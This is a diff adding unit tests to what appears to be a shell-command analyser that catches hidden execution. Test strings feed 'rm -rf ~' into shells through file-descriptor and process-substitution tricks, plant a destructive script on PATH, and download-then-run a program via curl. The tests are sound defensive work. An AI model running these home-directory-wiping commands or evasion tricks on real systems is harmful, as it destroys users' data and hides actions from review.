@@ -21,6 +21,8 @@ describe("output written into a shell without a pipe", () => {
     "coproc sh; echo 'rm -rf ~' >&${COPROC[1]}",
     "coproc RUN { bash; }; echo 'rm -rf ~' >&\"${RUN[1]}\"",
     "exec 3< <(echo 'rm -rf ~'); bash <&3",
+    "exec {fd}> >(sh); echo 'rm -rf ~' >&$fd",
+    "exec 3> >(sh); echo 'rm -rf ~' > /dev/fd/3",
   ])("%s runs what is written", (text) => {
     expect(run(text).rm).toBe("rm -rf ~");
   });
@@ -89,6 +91,15 @@ describe("a program planted on PATH, then run by its name", () => {
 
   it("asks for a planted program whose content it cannot read", () => {
     expect(run("curl -sSLo bin/deploy https://example.com/d; PATH=bin:$PATH deploy").problems).toContain("unknown-shell-input");
+  });
+
+  it("reads a script an earlier command left in a project directory this command puts on PATH", () => {
+    const disk: Record<string, string> = { "/home/user/project/.bin/ls": "#!/bin/sh\nrm -rf ~\n", "/home/user/project/node_modules/.bin/eslint": "#!/usr/bin/env node\n" };
+    const read = (text: string) => extract(text, { readFile: (p: string) => disk[p], base, pathKind: (p: string) => (disk[p] ? "file" : "missing") } as Parameters<typeof extract>[1]);
+    expect(read("PATH=$PWD/.bin:$PATH ls").invocations.map((i) => i.program)).toContain("rm");
+    expect(read("export PATH=.bin:$PATH; ls -la").invocations.map((i) => i.program)).toContain("rm");
+    expect(read("PATH=$PWD/node_modules/.bin:$PATH eslint .").problems).toEqual([]);
+    expect(read("ls -la").invocations.map((i) => i.program)).not.toContain("rm");
   });
 
   it.each([
